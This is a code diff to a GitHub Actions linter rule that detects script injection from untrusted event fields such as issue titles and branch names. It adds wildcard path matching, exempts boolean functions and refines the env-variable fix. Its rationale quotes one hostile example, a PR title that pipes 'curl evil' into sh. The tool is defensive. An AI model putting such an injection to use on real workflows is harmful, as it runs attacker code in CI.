@@ -4,18 +4,49 @@ import type { Expr } from '../expr/parser';
 import { appendToBlockMap, columnOf, lineStartOf } from '../edits';
 import { entries, entry } from '../../../yaml/view';
 
-/** Event payload fields anyone who can open an issue or a pull request controls. */
+/** Event payload fields anyone who can open an issue or a pull request controls (`*`: any element). */
 const UNTRUSTED = [
-  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
-  /^github\.event\.(comment|review|review_comment)\.body$/,
-  /^github\.event\.pages\.\*\.page_name$/,
-  /^github\.event\.(head_commit|workflow_run\.head_commit)\.(message|author\.(email|name))$/,
-  /^github\.event\.commits\.\*\.(message|author\.(email|name))$/,
-  /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
-  /^github\.event\.workflow_run\.(head_branch|display_title)$/,
-  /^github\.event\.workflow_run\.pull_requests\.\*\.head\.ref$/,
-  /^github\.head_ref$/,
-];
+  'github.event.issue.title',
+  'github.event.issue.body',
+  'github.event.pull_request.title',
+  'github.event.pull_request.body',
+  'github.event.discussion.title',
+  'github.event.discussion.body',
+  'github.event.comment.body',
+  'github.event.review.body',
+  'github.event.review_comment.body',
+  'github.event.pages.*.page_name',
+  'github.event.commits.*.message',
+  'github.event.commits.*.author.email',
+  'github.event.commits.*.author.name',
+  'github.event.head_commit.message',
+  'github.event.head_commit.author.email',
+  'github.event.head_commit.author.name',
+  'github.event.workflow_run.head_commit.message',
+  'github.event.workflow_run.head_commit.author.email',
+  'github.event.workflow_run.head_commit.author.name',
+  'github.event.pull_request.head.ref',
+  'github.event.pull_request.head.label',
+  'github.event.pull_request.head.repo.default_branch',
+  'github.event.workflow_run.head_branch',
+  'github.event.workflow_run.display_title',
+  'github.event.workflow_run.pull_requests.*.head.ref',
+  'github.head_ref',
+].map((p) => p.split('.'));
+
+/** The untrusted fields a property chain reads (several through a `*` filter). */
+function untrustedReached(chain: string): string[] {
+  if (!chain.startsWith('github.event.') && chain !== 'github.head_ref') return [];
+  const parts = chain.split('.');
+  const out: string[] = [];
+  for (const u of UNTRUSTED)
+    if (u.length === parts.length && u.every((seg, i) => seg === parts[i] || seg === '*' || parts[i] === '*'))
+      out.push(u.map((seg, i) => (seg === '*' ? parts[i] : seg)).join('.'));
+  return out;
+}
+
+/** Functions whose result is a boolean: an untrusted value passed to them cannot reach the script. */
+const SAFE_FUNCTIONS = new Set(['contains', 'startswith', 'endswith']);
 
 /** The dotted path of a property chain (`github.event.issue.title`, `*` for filters), or undefined. */
 function chain(e: Expr): string | undefined {
@@ -43,11 +74,12 @@ function chain(e: Expr): string | undefined {
 export function untrustedPaths(e: Expr, out: string[] = []): string[] {
   const c = chain(e);
   if (c !== undefined) {
-    if (UNTRUSTED.some((r) => r.test(c))) out.push(c);
+    out.push(...untrustedReached(c));
     return out;
   }
   switch (e.kind) {
     case 'call':
+      if (SAFE_FUNCTIONS.has(e.name.toLowerCase())) break;
       for (const a of e.args) untrustedPaths(a, out);
       break;
     case 'binary':
@@ -80,7 +112,7 @@ export const rule = defineRule<WorkflowModel>({
     code: 'WF015',
     id: 'script-injection',
     kinds: ['workflow'],
-    defaultSeverity: 'error',
+    defaultSeverity: 'warning',
     description:
       'Untrusted event values (issue titles, PR bodies, branch names, ...) ' +
       'must not be expanded inside `run:` scripts or `github-script`.',
@@ -94,7 +126,10 @@ export const rule = defineRule<WorkflowModel>({
       rationale:
         '`${{ }}` is substituted into the script text before the shell runs ' +
         'it, so a PR title like `"; curl evil | sh #` becomes code. The standard fix is to put the ' +
-        'value in `env:` and read the variable, which the shell never re-parses.',
+        'value in `env:` and read the variable, which the shell never re-parses. Checked in `run:` and in the ' +
+        '`script` of actions/github-script; an object filter (`github.event.*.title`) reaches every untrusted ' +
+        'field it can, and a value passed to `contains()`, `startsWith()` or `endsWith()` only gives a boolean. ' +
+        'Severity warning: a security risk, though the workflow itself runs.',
       incorrect:
         'on: issues\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n ' +
         '     - run: echo "${{ github.event.issue.title }}"\n',
@@ -120,7 +155,7 @@ export const rule = defineRule<WorkflowModel>({
         start: site.outerStart,
         end: site.outerEnd,
         messageId: 'injection',
-        data: { path: paths[0] },
+        data: { path: [...new Set(paths)].join('", "') },
         suggestions: doc ? fixFor(site, paths[0], inScript) : undefined,
       });
     }
@@ -128,7 +163,10 @@ export const rule = defineRule<WorkflowModel>({
       const step = site.step!;
       const name = envName(path);
       const value = `\${{ ${site.src.trim()} }}`;
-      const use = inScript ? `process.env.${name}` : `$${name}`;
+      // Inside single quotes the shell expands nothing: close them around the variable.
+      const lineStart = text.lastIndexOf('\n', site.outerStart - 1) + 1;
+      const quoted = !inScript && (text.slice(lineStart, site.outerStart).match(/'/g)?.length ?? 0) % 2 === 1;
+      const use = inScript ? `process.env.${name}` : quoted ? `'"$${name}"'` : `$${name}`;
       const edits = [{ start: site.outerStart, end: site.outerEnd, newText: use }];
       const envEntry = entry(step.node, doc, 'env', false);
       if (envEntry) {
